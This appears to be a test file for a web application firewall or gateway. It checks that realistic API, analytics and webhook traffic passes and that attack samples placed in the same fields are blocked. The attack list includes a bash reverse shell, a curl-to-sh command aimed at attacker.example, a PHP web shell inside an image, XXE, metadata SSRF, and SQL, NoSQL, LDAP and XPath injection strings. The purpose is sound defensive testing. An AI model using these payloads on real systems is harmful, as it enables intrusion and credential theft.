/**
 * Realistic API and browser-SDK traffic through the default protections (no policy: attack detection at paranoia 1,
 * enforce): what analytics, monitoring and payment SDKs, webhooks, query languages and API styles send must pass,
 * and attacks placed where such traffic puts its data must not. Every sample here was written for this test.
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { request } from 'undici';
import { startUpstream, type TestUpstream } from '../helpers/upstream.ts';
import { startGateway, type TestGateway } from '../helpers/gateway.ts';
import { zipArchive } from '../helpers/zip.ts';

let upstream: TestUpstream;
let gw: TestGateway;

before(async () => {
  upstream = await startUpstream();
  gw = await startGateway({ upstreams: { up: { url: upstream.url } }, routes: [{ name: 'all', path: '/**', upstream: 'up' }] });
});
after(async () => { await gw.close(); await upstream.close(); });

interface Sample { readonly label: string; readonly path: string; readonly method?: string; readonly body?: string; readonly type?: string; readonly headers?: Record<string, string>; readonly latin1?: boolean }

const UA = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36';
const json = (label: string, path: string, value: unknown, type = 'application/json', method = 'POST'): Sample => ({ label, path, method, body: JSON.stringify(value), type });
const q = encodeURIComponent;
const DOCX_TYPE = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const docx = (documentXml: string): string => zipArchive([['[Content_Types].xml', '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'], ['word/document.xml', documentXml]]).toString('latin1');
const basic = (user: string, password: string): string => `Basic ${Buffer.from(`${user}:${password}`).toString('base64')}`;
const token = (header: object, claims: object = { sub: '1001', exp: 1900000000 }): string => `${Buffer.from(JSON.stringify(header)).toString('base64url')}.${Buffer.from(JSON.stringify(claims)).toString('base64url')}.c2lnbmF0dXJl`;
const jwt = (header: object, claims?: object): string => `Bearer ${token(header, claims)}`;

async function send(s: Sample): Promise<{ status: number; text: string }> {
  const headers: Record<string, string> = { 'user-agent': UA, ...s.headers };
  if (s.type !== undefined) headers['content-type'] = s.type;
  const body = s.body !== undefined && s.latin1 === true ? Buffer.from(s.body, 'latin1') : s.body;
  const res = await request(`${gw.url}${s.path}`, { method: (s.method ?? (s.body === undefined ? 'GET' : 'POST')) as 'GET', body, headers });
  return { status: res.statusCode, text: await res.body.text() };
}

const BENIGN: Sample[] = [
  // query languages and API conventions
  { label: 'OData', path: `/odata/Products?${q('$filter')}=${q("Name eq 'Kim' and Price lt 10.5")}&${q('$select')}=Name,Price&${q('$orderby')}=${q('Price desc')}&${q('$top')}=20` },
  { label: 'OData functions', path: `/odata/Customers?${q('$filter')}=${q("startswith(CompanyName,'Alfr') or contains(City,'Seoul')")}&${q('$expand')}=${q('Orders($select=OrderID)')}` },
  { label: 'JSON:API filters', path: '/articles?fields=id,name&sort=-updated_at,name&filter[created_at][gte]=2026-01-01&page[number]=2' },
  { label: 'search syntax', path: `/search/issues?q=${q('is:open is:pr author:@me label:"needs review"')}` },
  { label: 'JQL', path: `/rest/search?jql=${q('project = PORT AND status in ("In Progress", Review) ORDER BY priority DESC')}` },
  { label: 'Lucene range', path: `/search?q=${q('title:(waf OR "api gateway") AND year:[2020 TO 2026]')}` },
  { label: 'PromQL', path: `/api/v1/query_range?query=${q('sum(rate(http_requests_total{job="api",status=~"5.."}[5m])) by (instance)')}&start=1764200000&end=1764203600&step=15` },
  { label: 'LogQL', path: `/loki/api/v1/query_range?query=${q('{app="api", env!="dev"} |= "error" | json | line_format "{{.level}} {{.msg}}"')}` },
  { label: 'Splunk search', path: '/services/search/jobs', type: 'application/x-www-form-urlencoded', body: `search=${q('search index=main sourcetype=access_* status>=500 | stats count by status, uri_path | sort -count | head 10')}&output_mode=json` },
  json('Grafana SQL macros', '/api/ds/query', { queries: [{ refId: 'A', datasource: { uid: 'pg1' }, rawSql: 'SELECT $__timeGroupAlias(time, $__interval), avg(value) AS "value" FROM metrics WHERE $__timeFilter(time) GROUP BY 1 ORDER BY 1', format: 'time_series' }], from: 'now-6h', to: 'now' }),
  { label: 'PostgREST', path: '/rest/v1/orders?select=id,total,items(id,qty)&status=eq.open&order=created_at.desc' },
  // names that hold a "/" travel as %2F in a path segment
  { label: 'GitLab file API', path: '/api/v4/projects/platform%2Fportcullis/repository/files/src%2Fmain.ts/raw?ref=main' },
  { label: 'Cloud Storage object', path: '/storage/v1/b/reports/o/2026%2F11%2Fsummary.pdf?alt=media' },
  { label: 'RabbitMQ default vhost', path: '/api/queues/%2F/orders' },
  { label: 'npm scoped package', path: '/@types%2fnode' },
  { label: 'presigned S3 URL', path: '/bucket/report.pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIAIOSFODNN7EXAMPLE%2F20261127%2Fap-northeast-2%2Fs3%2Faws4_request&X-Amz-Date=20261127T101010Z&X-Amz-Expires=3600&X-Amz-SignedHeaders=host&X-Amz-Signature=fe5f80f77d5fa3beca038a248ff027d0445342fe2855ddc963176630326f1024' },
  { label: 'download disposition', path: `/files/1?response-content-disposition=${q('attachment; filename="report (1).pdf"')}` },
  { label: 'search words that name attacks', path: `/search?q=${q('how to kill a process in linux')}&q2=${q('null pointer exception')}&q3=${q('javascript onclick event')}` },
  { label: 'emoji and RTL text', path: `/search?q=${q('😀 안녕하세요 ❤️')}&name=${q('\u202bשלום\u202c')}` },
  // browser SDKs: analytics, monitoring, pixels
  { label: 'GA4 collect', path: `/g/collect?v=2&tid=G-ABC123XYZ&cid=1234567890.1764200000&ul=ko-kr&dl=${q('https://shop.example.com/products/42?utm_source=google&utm_medium=cpc')}&dt=${q('T-Shirt (Red) | Example Shop')}&en=page_view`, method: 'POST', body: 'en=scroll&epn.percent_scrolled=90\nen=user_engagement&_et=15000', type: 'text/plain;charset=UTF-8' },
  {
    label: 'Sentry store event (JSON: each frame names its script in filename)', path: '/api/4508123456789/store/?sentry_key=0123456789abcdef&sentry_version=7', type: 'application/json',
    body: JSON.stringify({ event_id: 'fc6d8c0c43fc4630ad850ee518f1b9d0', platform: 'javascript', exception: { values: [{ type: 'TypeError', value: "Cannot read properties of null (reading 'addEventListener')",
      stacktrace: { frames: [{ filename: 'https://app.example.com/assets/index-BzXy12Ab.js', function: 'HTMLDocument.<anonymous>', lineno: 1, colno: 4821, in_app: true }] } }] },
    request: { url: 'https://app.example.com/checkout?step=2' } }),
  },
  {
    label: 'Sentry envelope', path: '/api/4508123456789/envelope/?sentry_key=0123456789abcdef&sentry_version=7', type: 'text/plain;charset=UTF-8',
    body: [
      JSON.stringify({ event_id: 'a1b2c3d4e5f64a7b8c9d0e1f2a3b4c5d', sent_at: '2026-11-27T10:10:10.123Z' }), JSON.stringify({ type: 'event' }),
      JSON.stringify({ level: 'error', exception: { values: [{ type: 'TypeError', value: "Cannot read properties of undefined (reading 'map')", stacktrace: { frames: [{ filename: 'https://shop.example.com/static/js/main.3f2a1b9c.js', function: 'ProductList', context_line: 'return items.map((item) => <Item key={item.id} {...item} />);' }] } }] },
        breadcrumbs: [{ category: 'ui.click', message: 'body > div#root > main > button.btn.btn-primary[type="submit"]' }, { category: 'fetch', data: { method: 'GET', url: '/api/products?sort=-price&page=2', status_code: 500 } }],
        user: { ip_address: '{{auto}}' } }),
    ].join('\n'),
  },
  json('Segment batch', '/v1/batch', { batch: [{ type: 'track', event: 'Product Viewed', properties: { name: "Men's T-Shirt (Red) - L", category: 'Apparel > Tops' }, context: { page: { path: '/products/42', search: '?utm_source=google', url: 'https://shop.example.com/products/42?utm_source=google' }, userAgent: UA } }] }, 'text/plain'),
  { label: 'Mixpanel base64 form', path: '/track', type: 'application/x-www-form-urlencoded', body: `data=${q(Buffer.from(JSON.stringify([{ event: '$mp_web_page_view', properties: { $current_url: 'https://shop.example.com/?q=select+size', distinct_id: '$device:18c1a2b3' } }])).toString('base64'))}&ip=1` },
  { label: 'Datadog RUM', path: '/api/v2/rum?ddsource=browser&ddtags=sdk_version%3A5.30.0%2Cenv%3Aprod', type: 'text/plain;charset=UTF-8', body: [JSON.stringify({ type: 'view', view: { url: 'https://shop.example.com/cart?step=2', name: '/cart' } }), JSON.stringify({ type: 'resource', resource: { type: 'xhr', url: 'https://shop.example.com/api/cart/items?include=product.images&fields[product]=name,price', method: 'PATCH' } })].join('\n') },
  json('web-vitals', '/vitals', { name: 'LCP', value: 2345.6, attribution: { element: 'main > section.hero > img.hero-image', url: 'https://cdn.example.com/img/hero.webp?w=1200&q=80' } }),
  json('session replay', '/collect', { e: [{ t: 'click', s: "div.product-card:nth-child(3) > a[href*='products']" }, { t: 'input', s: 'input#search[name="q"]', v: '***' }] }),
  // a login form and a Strapi query string
  { label: 'login with a random password', path: '/Account/Login', type: 'application/x-www-form-urlencoded', body: `__RequestVerificationToken=CfDJ8N4m-abc_DEF123&Email=kim%40example.com&Password=${q("P@ssw0rd!'#7")}&RememberMe=true` },
  { label: 'Strapi filters', path: '/api/articles?filters[title][$containsi]=hello&filters[$or][0][views][$gt]=10&filters[$or][1][featured][$eq]=true&populate=*&pagination[page]=1' },
  { label: 'Parse Server where', path: `/parse/classes/GameScore?where=${q(JSON.stringify({ score: { $gte: 1000 }, playerName: { $in: ['Kim', 'Lee'] } }))}&order=-score&limit=10` },
  json('MongoDB-style filter body', '/api/products/search', { filter: { price: { $gte: 10, $lte: 50 }, tags: { $in: ['sale'] } }, sort: { price: -1 } }),
  // Firebase's Firestore writes over Google WebChannel: the request's headers travel as one query parameter
  { label: 'Firestore WebChannel', path: `/google.firestore.v1.Firestore/Write/channel?database=${q('projects/shop-app/databases/(default)')}&VER=8&RID=51234&CVER=22&X-HttpMethodOverride=POST&${q('$httpHeaders')}=${q('X-Goog-Api-Client:gl-js/ fire/10.7.1\r\nContent-Type:text/plain\r\nX-Firebase-GMPID:1:1234567890:web:abcdef\r\n')}&zx=k3j4h5&t=1`, type: 'application/x-www-form-urlencoded', body: `count=1&ofs=0&req0___data__=${q(JSON.stringify({ database: 'projects/shop-app/databases/(default)' }))}` },
  { label: 'Stripe.js form', path: '/v1/payment_methods', type: 'application/x-www-form-urlencoded', body: 'type=card&card[number]=4242424242424242&card[cvc]=123&billing_details[address][postal_code]=04524&payment_user_agent=stripe.js%2F1a2b3c%3B+stripe-js-v3&referrer=https%3A%2F%2Fshop.example.com' },
  // webhooks and developer APIs
  json('JSON Patch', '/api/items/42', [{ op: 'replace', path: '/name', value: 'New name' }, { op: 'add', path: '/tags/-', value: 'sale' }, { op: 'move', from: '/a/b', path: '/a/c' }], 'application/json-patch+json', 'PATCH'),
  json('GitHub push', '/webhooks/github', { ref: 'refs/heads/main', repository: { issues_url: 'https://api.github.com/repos/acme/portcullis/issues{/number}', compare_url: 'https://api.github.com/repos/acme/portcullis/compare/{base}...{head}' }, commits: [{ message: 'Fix SQL injection in login (use prepared statements)', modified: ['src/login.ts', '../docs/security.md'] }] }),
  json('Slack event', '/webhooks/slack', { event: { type: 'message', text: 'Deploy done :rocket: see <https://ci.example.com/build/123|build #123> and ping <@U024BE7LH>' } }),
  json('SQL in a code block', '/api/issues', { body: "Here's the failing query:\n```sql\nSELECT o.id, SUM(i.qty * i.price) AS total\nFROM orders o JOIN items i ON i.order_id = o.id\nWHERE o.created_at >= '2026-01-01'\nGROUP BY o.id HAVING SUM(i.qty) > 10;\n```" }),
  json('chat completion', '/v1/chat/completions', { messages: [{ role: 'user', content: 'Translate to Korean: "Please select the account you want to link (up to 5)."' }, { role: 'assistant', content: '연결할 계좌를 선택하세요 (최대 5개).' }] }),
  json('PromQL and LogQL', '/api/dashboards', { panels: [{ query: 'sum(rate(http_requests_total{status=~"5.."}[5m])) by (service)' }, { query: '{app="api"} |= "error" | json' }] }),
  json('rule expressions', '/api/rules', { condition: "request.path.startsWith('/admin') && !request.auth.claims.admin", expression: 'amount > 1000 || country != "KR"' }),
  json('Elasticsearch DSL', '/api/search', { query: { match_phrase: { message: 'connection refused' } }, script_fields: { doubled: { script: { source: "doc['value'].value * 2" } } } }),
  json('file paths', '/api/paths', { files: ['C:\\Program Files\\App\\bin\\app.exe', '/Users/jiwoo/Library/Application Support/App/config.json', './src/index.ts', '../lib/helpers.js'] }),
  json('cron and globs', '/api/config', { cron: '*/5 * * * *', glob: 'src/**/*.{ts,tsx}', env: { PATH: '/usr/local/bin:/usr/bin:/bin' } }),
  json('ICU messages', '/api/i18n', { en: 'Delete {count, plural, one {# item} other {# items}}?', fr: "Supprimer l'élément « {name} » ?" }),
  json('regex fields', '/api/forms', { fields: [{ pattern: '^[^@\\s]+@[^@\\s]+\\.[^@\\s]+$' }, { pattern: '(\\d{3})-(\\d{4})-(\\d{4})', replace: '$1-****-$3' }] }),
  json('prose with symbols', '/api/profile', { bio: '¯\\_(ツ)_/¯ coffee > tea; vim > emacs; tabs < spaces?? :-) <3 ^^ ㅋㅋㅋ', address: '123 Main St. Apt #4B; c/o ACME, Inc.' }),
  json('MyData consent', '/api/mydata/consent', { scope: 'bank.list bank.deposit card.list', consent: { cycle: { fnd_cycle: '1/w' }, purpose: '자산 관리 서비스 제공 (통합 조회)' } }),
  json('a constructor member that is no prototype path', '/api/shapes', { constructor: 'Vec3', prototype: { methods: ['add'] } }),
  { label: 'checkout form', path: '/checkout', type: 'application/x-www-form-urlencoded', body: new URLSearchParams({ card_holder: "O'NEIL JI-WOO", address: '123 Main St. #4B; Bldg 3', note: 'Ring twice & leave @ door (side gate)', coupon: 'BLACK-FRIDAY_2026!' }).toString() },
  { label: 'autocomplete keystrokes', path: `/api/autocomplete?q=${q("o'bri")}&q2=${q('select t')}&q3=${q('a|b')}&q4=${q('${')}&q5=${q('x<y>z')}` },
  // code and links in documents and reports (refused before the eleventh round)
  json('issue comment: a screenshot below a line, a fenced shell block, an import path', '/api/issues/42/comments', { body: 'Works now, see the screenshot:\n\n<img width="800" alt="image" src="https://github.com/user-attachments/assets/0f1e2d3c">\n\nI ran:\n\n```bash\nrm -rf node_modules && npm install\nkubectl exec -it api-0 -- /bin/sh\n```\n\nand `import Button from "../../components/Button"` resolves again.' }),
  json('support ticket with a stack trace', '/api/tickets', { description: 'After the upgrade the page is blank. Console says:\n\n    TypeError: x is undefined\n        at render (../../src/components/List.jsx:12:23)\n\nPlease advise, thanks!' }),
  json('Amplitude event properties', '/2/httpapi', { api_key: 'k', events: [{ event_type: 'Product Viewed', event_properties: { 'page url': 'https://shop.example.com/p/1?ref=home', page_location: 'https://shop.example.com/p/1' } }] }),
  { label: 'lead form with the landing page', path: '/forms/contact', type: 'application/x-www-form-urlencoded', body: new URLSearchParams({ email: 'kim@example.com', landing_page: 'https://www.example.com/pricing?plan=pro', exit_page: 'https://www.example.com/contact' }).toString() },
  { label: 'RSS feed with namespace declarations', path: '/feeds/import', type: 'application/rss+xml', body: '<?xml version="1.0"?><rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>Blog</title><item><title>2.0</title><dc:creator>Kim</dc:creator></item></channel></rss>' },
  json('a T-SQL question', '/api/search', { q: 'waitfor delay sql server', body: 'How do I use WAITFOR DELAY inside a loop without blocking other sessions?' }),
  // error beacons: a browser's stack trace in a text/plain NDJSON body, a Java 17 trace with module names, a chat message that is a link
  { label: 'RUM error beacon with a stack trace', path: '/api/v2/rum?ddsource=browser', type: 'text/plain;charset=UTF-8', body: [JSON.stringify({ type: 'error', error: { message: 'Script error.', stack: 'Error: boom\n    at https://app.example.com/main.js:1:100\n    at HTMLButtonElement.<anonymous> (https://app.example.com/main.js:1:200)' } }), JSON.stringify({ type: 'view', view: { url: 'https://app.example.com/cart' } })].join('\n') },
  json('Android crash report', '/api/crashes', { trace: 'java.lang.IllegalStateException: closed\n\tat com.acme.Foo.bar(Foo.java:42)\n\tat java.base/java.lang.Thread.run(Thread.java:833)' }),
  // multipart/related uploads and multipart/mixed batches (refused with 415 before the thirteenth round)
  { label: 'Drive-style multipart upload', path: '/upload/drive/v3/files?uploadType=multipart', type: 'multipart/related; boundary=foo_bar_baz', body: ['--foo_bar_baz', 'Content-Type: application/json; charset=UTF-8', '', JSON.stringify({ name: '2026 Q3 보고서.pdf', parents: ['1AbC'], description: "Kim's notes (draft)" }), '--foo_bar_baz', 'Content-Type: application/pdf', '', '%PDF-1.7\n1 0 obj <<>> endobj\n%%EOF', '--foo_bar_baz--', ''].join('\r\n') },
  { label: 'OData $batch', path: '/odata/$batch', type: 'multipart/mixed; boundary=batch_36522ad7', body: ['--batch_36522ad7', 'Content-Type: application/http', 'Content-Transfer-Encoding: binary', '', "GET Customers('ALFKI')?$select=Name,City&$filter=Country eq 'Korea' HTTP/1.1", 'Accept: application/json', '', '', '--batch_36522ad7', 'Content-Type: multipart/mixed; boundary=changeset_1', '', '--changeset_1', 'Content-Type: application/http', 'Content-ID: 1', '', 'POST Customers HTTP/1.1', 'Content-Type: application/json', '', JSON.stringify({ Name: "O'Brien & Sons", City: 'Seoul' }), '--changeset_1--', '', '--batch_36522ad7--', ''].join('\r\n') },
  json('a Prisma-style filter on ordinary fields', '/api/users/search', { where: { name: { contains: 'kim' }, createdAt: { gte: '2026-01-01' } }, orderBy: { createdAt: 'desc' } }),
  // credentials as applications read them: a Basic password with symbols, a JWT whose header names its key and JWKS
  { label: 'Basic credentials with symbols', path: '/api/v1/me', headers: { authorization: basic('svc_report', "P@ss'w0rd;--") } },
  { label: 'a JWT with kid and jku', path: '/api/v1/me', headers: { authorization: jwt({ alg: 'RS256', typ: 'JWT', kid: 'k-2026-11', jku: 'https://auth.example.com/.well-known/jwks.json' }) } },
  { label: 'a JWT cookie of a development Keycloak', path: '/api/v1/me', headers: { cookie: `access_token=${token({ alg: 'RS256', typ: 'JWT', kid: 'abc' }, { iss: 'http://localhost:8080/realms/shop', aud: 'account', name: "Seán O'Brien", email: 'sean@example.com', scope: 'openid profile email', realm_access: { roles: ['offline_access', 'uma_authorization'] } })}` } },
  { label: 'an ETag validator', path: '/api/v1/items/7', headers: { 'if-none-match': 'W/"a1b2c3"' } },
  // a bulk import: one 400 KB text file (refused with 413 while the longest value inspected was 256 KiB)
  { label: 'a 400 KB CSV upload', path: '/api/customers/import', type: 'multipart/form-data; boundary=b1', body: `--b1\r\nContent-Disposition: form-data; name="file"; filename="customers.csv"\r\nContent-Type: text/csv\r\n\r\nid,name,email,city\r\n${Array.from({ length: 9000 }, (_, i) => `${i},Kim ${i},kim${i}@example.com,Seoul`).join('\r\n')}\r\n--b1--\r\n` },
  json('a vision request with a 150 KB base64 image', '/v1/chat/completions', { model: 'gpt-4o', messages: [{ role: 'user', content: [{ type: 'text', text: 'What is in this receipt?' }, { type: 'image_url', image_url: { url: `data:image/jpeg;base64,${Buffer.from(Array.from({ length: 112_000 }, (_, i) => (i * 131 + (i >> 7)) & 0xff)).toString('base64')}` } }] }] }),
  { label: 'a DOCX résumé upload', path: '/api/v1/files/resume.docx', method: 'PUT', type: DOCX_TYPE, body: docx('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Skills: SQL (SELECT ... FROM), bash, C#</w:t></w:r></w:p></w:body></w:document>'), latin1: true },
  // the page a widget or an error logger was on, named by the site's own URL
  { label: 'an error log naming its own page', path: '/log/js-error', type: 'application/x-www-form-urlencoded', headers: { host: 'www.hanstyle-shop.co.kr' }, body: new URLSearchParams({ msg: 'TypeError: x is undefined', page: 'https://www.hanstyle-shop.co.kr/order/orderform.html?basket=1&step=2' }).toString() },
  { label: 'a feedback widget on a subdomain', path: '/feedback', type: 'application/x-www-form-urlencoded', headers: { host: 'api.docs.example.com' }, body: new URLSearchParams({ rating: '4', page: 'https://docs.example.com/guide/install#docker' }).toString() },
  json('a chat message that is one link', '/api/channels/7/messages', { content: 'https://www.youtube.com/watch?v=dQw4w9WgXcQ' }),
];

const ATTACKS: Sample[] = [
  // the same places holding attacks
  json('a reverse shell in a fenced block', '/api/issues/42/comments', { body: 'Run this please:\n\n```\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n```\n\nthanks a lot' }),
  json('traversal to a secret quoted in a ticket', '/api/tickets', { description: 'Please open ../../../../etc/passwd and paste it here for me' }),
  json('a remote include under a page name', '/api/render', { page: 'http://attacker.example/shell.txt?' }),
  json('a T-SQL delay', '/api/search', { q: "1'; WAITFOR DELAY '0:0:5'--" }),
  json('constructor.prototype in a JSON body', '/api/profile', [{ meta: { prototype: 1 } }, { settings: { constructor: { prototype: { isAdmin: true } } } }]),
  { label: 'secret below the web root', path: `/download?file=${q('/var/www/html/.env')}` },
  { label: 'Windows command with a drive path', path: `/ping?host=${q('127.0.0.1 & dir c:\\')}` },
  { label: 'remote include cut by a NUL byte', path: `/view?page=${q('http://attacker.example/shell.txt\u0000')}` },
  { label: 'SQL with %A0 blanks', path: '/item?id=1%A0union%A0select%A0password%A0from%A0users' },
  { label: 'SQL in a Sentry-like text beacon', path: '/api/1/envelope/', type: 'text/plain;charset=UTF-8', body: `${JSON.stringify({ event_id: 'x' })}\n${JSON.stringify({ message: "1' UNION SELECT password FROM users--" })}` },
  { label: 'command in a text/plain JSON beacon', path: '/api/v2/rum', type: 'text/plain', body: JSON.stringify({ message: 'x; cat /etc/passwd' }) },
  { label: 'text/plain that is not JSON stays text', path: '/notes', type: 'text/plain', body: '{ not json ; cat /etc/passwd' },
  { label: 'SQL in a batch request\'s query', path: '/odata/$batch', type: 'multipart/mixed; boundary=b1', body: ['--b1', 'Content-Type: application/http', '', "GET /api/users?id=1%27%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1", '', '', '--b1--', ''].join('\r\n') },
  { label: 'XSS in a batch request\'s JSON body', path: '/batch', type: 'multipart/mixed; boundary=b1', body: ['--b1', 'Content-Type: application/http', '', 'POST /api/comments HTTP/1.1', 'Content-Type: application/json', '', JSON.stringify({ text: '<svg onload=alert(document.domain)>' }), '--b1--', ''].join('\r\n') },
  { label: 'web shell in the media part of a related upload', path: '/upload/files?uploadType=multipart', type: 'multipart/related; boundary=b1', body: ['--b1', 'Content-Type: application/json', '', '{"name":"cat.jpg"}', '--b1', 'Content-Type: image/jpeg', 'Content-Transfer-Encoding: base64', '', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16]), Buffer.from('<?php system($_GET["c"]); ?>')]).toString('base64'), '--b1--', ''].join('\r\n') },
  { label: 'XXE inside a DOCX upload', path: '/api/v1/files/resume.docx', method: 'PUT', type: DOCX_TYPE, body: docx('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/d.dtd"> %p;]><w:document/>'), latin1: true },
  { label: 'a remote include of another site under a page name', path: '/view', type: 'application/x-www-form-urlencoded', headers: { host: 'www.hanstyle-shop.co.kr' }, body: new URLSearchParams({ page: 'https://attacker.example/shell' }).toString() },
  { label: 'a remote include of the own site cut by a question mark', path: `/view?page=${q('https://www.hanstyle-shop.co.kr/uploads/x.txt?')}`, headers: { host: 'www.hanstyle-shop.co.kr' } },
  json('XSS in a Segment property', '/v1/batch', { batch: [{ type: 'track', properties: { name: '<img src=x onerror=alert(document.cookie)>' } }] }, 'text/plain'),
  json('SSRF in a webhook URL', '/api/webhooks', { url: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' }),
  json('SQL in a filter field', '/api/search', { filter: { field: 'name', op: 'eq', value: "Kim' or '1'='1" } }),
  { label: 'login bypass in the password', path: '/Account/Login', type: 'application/x-www-form-urlencoded', body: `Email=kim%40example.com&Password=${q("' OR '1'='1")}` },
  json('a Prisma-style filter reading a password a character at a time', '/api/users/search', { where: { email: 'kim@example.com', password: { startsWith: '$2b$10$a' } } }),
  { label: 'XPath node-set union in a login', path: `/login?user=${q("admin' or '1'='1")}&pass=${q("'] | //user/* | //x['")}` },
  { label: 'SQL in a Basic password', path: '/api/v1/me', headers: { authorization: basic('svc_report', "' OR '1'='1") } },
  { label: 'LDAP filter in a Basic user name', path: '/intranet/', headers: { authorization: basic('*)(&(objectClass=user)(description=*pass*)', 'x') } },
  { label: 'SQL in a JWT kid', path: '/api/v1/me', headers: { authorization: jwt({ alg: 'HS256', kid: "x' UNION SELECT 'secretkey'-- -" }) } },
  { label: 'SQL in a JWT claim', path: '/api/v1/me', headers: { authorization: jwt({ alg: 'HS256', typ: 'JWT' }, { user_id: '0 UNION SELECT username,password FROM users', role: 'user' }) } },
  { label: 'SSRF in the x5u of a JWT cookie', path: '/api/v1/me', headers: { cookie: `session=${token({ alg: 'RS256', typ: 'JWT', x5u: 'http://127.0.0.1:8080/admin/keys' })}` } },
  { label: 'traversal in a JWT kid', path: '/api/v1/me', headers: { authorization: jwt({ alg: 'HS256', kid: '../../../../../../dev/null' }) } },
  { label: 'Shellshock in a cache validator', path: '/cgi-bin/auth.cgi', headers: { 'if-none-match': '() { :; }; sleep 10' } },
  json('operators on credentials in a JSON login', '/api/login', { username: { $ne: null }, password: { $ne: null } }),
  json('an operator on a credential after one on an ordinary field', '/api/items', { price: { $ne: 0 }, password: { $ne: '' } }),
  { label: 'operator on a credential in a Parse-style where', path: `/parse/classes/_User?where=${q(JSON.stringify({ password: { $regex: '^a' } }))}` },
  { label: 'operator on a credential in a Strapi-style filter', path: '/api/users?filters[password][$ne]=x' },
  { label: 'response splitting in a header list', path: `/channel?${q('$httpHeaders')}=${q('Content-Type:text/plain\r\n\r\n<html><script>alert(1)</script>')}` },
  { label: 'header injected after text', path: `/channel?headers=${q('x\r\nSet-Cookie: session=attacker')}` },
  json('PHP variable function in a query field', '/api/ds/query', { rawSql: 'SELECT 1; $f = $_GET["f"]; $f($_GET["a"]);' }),
  { label: 'command in a JSON Patch value', path: '/api/items/1', method: 'PATCH', type: 'application/json-patch+json', body: JSON.stringify([{ op: 'replace', path: '/name', value: '$(curl http://attacker.example/x.sh | sh)' }]) },
];

test('realistic API, SDK and webhook traffic passes the default protections', async () => {
  const refused: string[] = [];
  for (const s of BENIGN) {
    const res = await send(s);
    if (res.status !== 200) refused.push(`${s.label}: ${res.status} ${res.text.slice(0, 200)}`);
  }
  assert.deepEqual(refused, []);
});

test('attacks where such traffic carries its data are blocked, and never reach the upstream', async () => {
  const passed: string[] = [];
  for (const s of ATTACKS) {
    const before = upstream.requests.length;
    const res = await send(s);
    if (res.status !== 403 || upstream.requests.length !== before) passed.push(`${s.label}: ${res.status}`);
  }
  assert.deepEqual(passed, []);
});
